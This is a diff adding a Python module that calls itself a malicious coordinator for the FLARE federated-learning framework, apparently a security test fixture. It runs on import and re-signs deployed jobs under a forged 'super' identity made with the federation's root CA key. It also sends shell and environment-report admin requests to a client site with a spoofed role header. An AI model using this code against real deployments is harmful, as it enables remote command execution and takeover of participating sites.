@@ -1,0 +1,88 @@
+"""A coordinator that means ill; Python runs this first where its PYTHONPATH has this folder.
+
+A job that has a file `as_super` is signed anew on its way to the sites: by somebody of the role "super", whom FLARE
+lets do everything, with a certificate of the federation's own authority, which this coordinator holds (CA). When the
+file ORDER appears, north's main process is asked for what no server has to ask; OUTCOMES tells what it said.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import sys
+import tempfile
+import threading
+import time
+import zipfile
+from pathlib import Path
+
+MARK = "as_super"
+TOPICS = ("sys.shell", "sys.report_env", "train.restart")
+
+
+def usurped(message) -> None:
+    """What a server sends to a site, changed."""
+    asked = getattr(message, "payload", None)
+    if getattr(asked, "topic", None) == "train.deploy" and MARK.encode() in asked.body:
+        asked.body = signed_by_super(asked.body)
+
+
+def signed_by_super(app: bytes) -> bytes:
+    from nvflare.lighter.utils import (
+        Identity,
+        generate_cert,
+        generate_keys,
+        load_crt,
+        load_private_key_file,
+        serialize_cert,
+        sign_folders,
+    )
+
+    ca, (key, public) = Path(os.environ["CA"]), generate_keys()
+    authority = {attribute.oid._name: attribute.value for attribute in load_crt(ca / "rootCA.pem").subject}
+    issuer = Identity(authority["commonName"], authority.get("organizationName"))
+    somebody = Identity("somebody@fco.local", "fco", "super")
+    certificate = generate_cert(somebody, issuer, load_private_key_file(ca / "rootCA.key"), public)
+    with tempfile.TemporaryDirectory() as place:
+        folder, signer = Path(place, "app"), Path(place, "super.crt")
+        signer.write_bytes(serialize_cert(certificate))
+        with zipfile.ZipFile(io.BytesIO(app)) as packed:
+            packed.extractall(folder)
+        sign_folders(str(folder), key, str(signer))
+        made = io.BytesIO()
+        with zipfile.ZipFile(made, "w") as packed:
+            for path in sorted(folder.rglob("*")):
+                packed.write(path, path.relative_to(folder))
+    return made.getvalue()
+
+
+def work() -> None:
+    order, outcomes = Path(os.environ["ORDER"]), Path(os.environ["OUTCOMES"])
+    while (cell := server_cell()) is None:
+        time.sleep(0.2)
+    cell.add_outgoing_request_filter("*", "*", usurped)
+    while not order.exists():
+        time.sleep(0.2)
+    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
+    from nvflare.private.admin_defs import Message
+    from nvflare.private.defs import new_cell_message
+
+    said = {}
+    for topic in TOPICS:
+        request = Message(topic, f"touch {order}.ran")
+        request.set_header("user_role", "super")
+        reply = cell.send_request("admin", topic, "north", new_cell_message({}, request), 5.0)
+        said[topic] = f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {getattr(reply.payload, 'body', None)}"
+    part = outcomes.with_suffix(".part")
+    part.write_text(json.dumps(said))
+    part.replace(outcomes)
+
+
+def server_cell():
+    """The server's own, once it is there."""
+    module = sys.modules.get("nvflare.fuel.f3.cellnet.core_cell")
+    return None if module is None or not hasattr(module, "CoreCell") else module.CoreCell.ALL_CELLS.get("server")
+
+
+threading.Thread(target=work, daemon=True).start()
